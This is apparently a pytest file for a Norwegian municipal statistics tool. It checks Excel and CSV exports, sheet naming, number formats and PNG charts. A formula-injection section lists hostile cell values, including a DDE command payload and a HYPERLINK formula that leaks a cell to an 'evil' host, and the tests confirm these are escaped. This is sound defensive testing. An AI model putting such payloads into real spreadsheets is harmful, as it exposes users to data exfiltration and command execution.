"""Excel workbook (a sheet per indicator + «Kilder»), file names, and one PNG through Kaleido."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from nokkeltall import queries, spreadsheet
from nokkeltall.compare import export
from nokkeltall.compare import figures as compare_figures
from nokkeltall.plan import calendar, timeline
from nokkeltall.profile import small_municipalities


def test_file_names_follow_municipalities_and_indicator():
    assert (
        export.file_name(["Træna", "Raarvihke - Røyrvik"], "Andel 67 år og eldre", "xlsx")
        == "traena-raarvihke-royrvik_andel-67-ar-og-eldre.xlsx"
    )
    long = export.file_name([f"Kommunenavn{i}" for i in range(8)], "Folketall", "png")
    assert long.startswith("kommunenavn0-kommunenavn1-m-fl-6_folketall") and long.endswith(".png")


def test_sheet_names_are_valid_and_unique():
    taken: set[str] = set()
    first = export.sheet_name("Netto driftsresultat (% av brutto driftsinntekter)", taken)
    second = export.sheet_name("Netto driftsresultat (% av brutto driftsinntekter)", taken)
    assert len(first) <= 31 and len(second) <= 31 and first != second
    assert export.sheet_name("a/b:c*?", set()) == "a b c"


def test_comparison_workbook_reads_back(con):
    data = export.comparison_workbook(con, ["population", "share_67_plus_pct"], ["1835", "5043"])
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Folketall", "Andel 67 år og eldre (%)", "Kilder"]
    rows = list(book["Folketall"].values)
    assert rows[0][:3] == ("År", "Træna", "Røyrvik")
    read = pd.DataFrame(rows[1:], columns=rows[0]).set_index("År")
    expected = queries.indicator_series(con, "population", ["1835"]).set_index("year")["value"]
    for year, value in expected.items():
        assert read.at[year, "Træna"] == pytest.approx(float(value))
    sources = list(book["Kilder"].values)
    assert sources[0][:4] == ("Indikator", "Enhet", "Definisjon", "Tabell")
    assert {r[0] for r in sources[1:] if r[0]} >= {"Folketall", "Andel 67 år og eldre"}
    assert any(r[3] == "tabell 07459 (befolkning 1. januar)" for r in sources[1:])


def test_png_export_is_a_png(con):
    view = compare_figures.build_view(con, "stolper", "population", ["1835", "5043"])
    try:
        data = export.png_bytes(view.figure, width=600, height=400, title=view.title, source=view.source)
    finally:
        export.stop_kaleido()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 5000


# --- exports a planner can paste: integers, rounded shares, numeric Excel cells --------------------------


def test_excel_round_trip_counts_are_integers_shares_are_rounded_cells_are_numbers(con):
    ids = ["population", "share_67_plus_pct", "cost_need_index"]
    data = export.comparison_workbook(con, ids, ["1835", "5043"])
    book = openpyxl.load_workbook(io.BytesIO(data))
    population, shares, index = book["Folketall"], book["Andel 67 år og eldre (%)"], book[book.sheetnames[2]]
    for row in population.iter_rows(min_row=2):
        for cell in row[1:]:
            if cell.value is not None:
                assert isinstance(cell.value, int), cell.value  # 444, never 444.0 or 407877.9999999999
                assert cell.number_format == "#,##0"
    expected = queries.indicator_series(con, "share_67_plus_pct", ["1835"]).set_index("year")["value"]
    read = {row[0].value: row[1].value for row in shares.iter_rows(min_row=2)}
    for year, value in expected.items():
        assert read[year] == round(float(value), 1)  # the indicator's decimals, a real number
        assert isinstance(read[year], float | int)
    assert all(c.number_format == "#,##0.0" for c in shares["B"][1:] if c.value is not None)
    assert all(
        isinstance(c.value, float | int) and c.number_format == "#,##0.000"
        for c in index["B"][1:]
        if c.value is not None
    )  # the index's three decimals, whatever the values
    assert all(isinstance(c.value, int) for c in population["A"][1:])  # years are plain integers


def test_csv_round_trip_of_a_chart_table_keeps_counts_whole(con):
    from nokkeltall import spreadsheet, tables
    from nokkeltall.charts import indicator as indicator_charts

    chart = indicator_charts.indicator_chart(con, "population", "1835")
    data = spreadsheet.csv_bytes(tables.rounded(chart.table, default=None))
    read = pd.read_csv(io.BytesIO(data), sep=";", decimal=",", encoding="utf-8-sig")
    column = "Træna (personer)"
    assert read[column].dtype.kind == "i"
    assert ",0;" not in data.decode("utf-8-sig")  # no «444,0»
    expected = queries.indicator_series(con, "population", ["1835"]).set_index("year")["value"]
    shown = dict(zip(read["År"], read[column], strict=True))
    assert shown == {int(y): int(round(v)) for y, v in expected.items()}
    share = indicator_charts.indicator_chart(con, "share_67_plus_pct", "1835")
    text = spreadsheet.csv_bytes(tables.rounded(share.table, default=None)).decode("utf-8-sig")
    assert all(
        len(cell.split(",")[1]) == 1
        for line in text.splitlines()[1:]
        for cell in line.split(";")[1:2]
        if "," in cell
    )  # one decimal, as the indicator


def test_png_carries_the_finding_and_the_source(con, monkeypatch):
    captured = {}
    from nokkeltall.charts import images

    def draw(figure, **options):
        captured["figure"] = figure
        return b"png"

    monkeypatch.setattr(images, "figure_png", draw)
    view = compare_figures.build_view(con, "linjer", "population", ["1835", "5043"])
    export.png_bytes(view.figure, title=view.finding, source=view.source)
    figure = captured["figure"]
    assert figure.layout.title.text.replace("<br>", " ") == view.finding
    assert any(a.text == view.source for a in figure.layout.annotations)
    assert view.source.startswith("Kilde: SSB, tabell 07459")


# --- formula injection (issue 17.4) ---------------------------------------------------------------

HOSTILE_CELLS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?x="&A1,"Klikk")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def hostile_table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Hendelse": HOSTILE_CELLS,
            "Verdi": [-3, -2.5, 0, 1, 2, 3, 4],
            "Tekst": ["vanlig", "Træna", "–1 (tankestrek)", "a=b", "", None, "1835"],
        }
    )


def sheet_cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    return [cell for cell in cells if cell.value is not None]


def test_cells_that_start_like_formulas_are_text_and_numbers_stay_numbers():

    safe = spreadsheet.safe_cells(hostile_table())
    assert safe["Hendelse"].tolist() == ["'" + value for value in HOSTILE_CELLS]
    assert safe["Verdi"].tolist() == [-3, -2.5, 0, 1, 2, 3, 4] and safe["Verdi"].dtype.kind == "f"
    assert safe["Tekst"].tolist()[:5] == ["vanlig", "Træna", "–1 (tankestrek)", "a=b", ""]
    text = spreadsheet.csv_bytes(hostile_table()).decode("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in text and ";-3,0;" in text  # the negative number is a number
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert all(float(cell.replace(",", ".")) < 0 for cell in cells if cell.startswith("-"))  # only numbers


@pytest.mark.parametrize("writer", ["workbook", "overview"])
def test_excel_writes_strings_as_strings_never_formulas(writer):
    """Before: xlsxwriter turned every string starting with «=» into a live formula."""

    data = (
        export.workbook_bytes({"Tabell": hostile_table()}, pd.DataFrame({"Kilde": ["=Kilde"]}))
        if writer == "workbook"
        else small_municipalities.to_excel(hostile_table(), source="=Kilde")
    )
    cells = sheet_cells(data)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a formula in the workbook"
    values = [cell.value for cell in cells]
    assert "'=cmd|' /C calc'!A0" in values and "'=Kilde" in values
    assert -3 in values and -2.5 in values  # numbers stay numbers


def test_a_milestone_titled_like_a_formula_is_text_in_the_timeline_csv():

    legal = calendar.calendar_frame(calendar.legal_calendar(2024, 2028))
    milestone = {
        "plan_type": "planstrategi",
        "title": '=HYPERLINK("http://evil")',
        "start_date": "2027-01-15",
        "end_date": None,
        "status": "planlagt",
        "note": "",
    }
    text = spreadsheet.csv_bytes(timeline.timeline_table(legal, [milestone])).decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    assert not any(cell.startswith("=") for row in rows for cell in row)
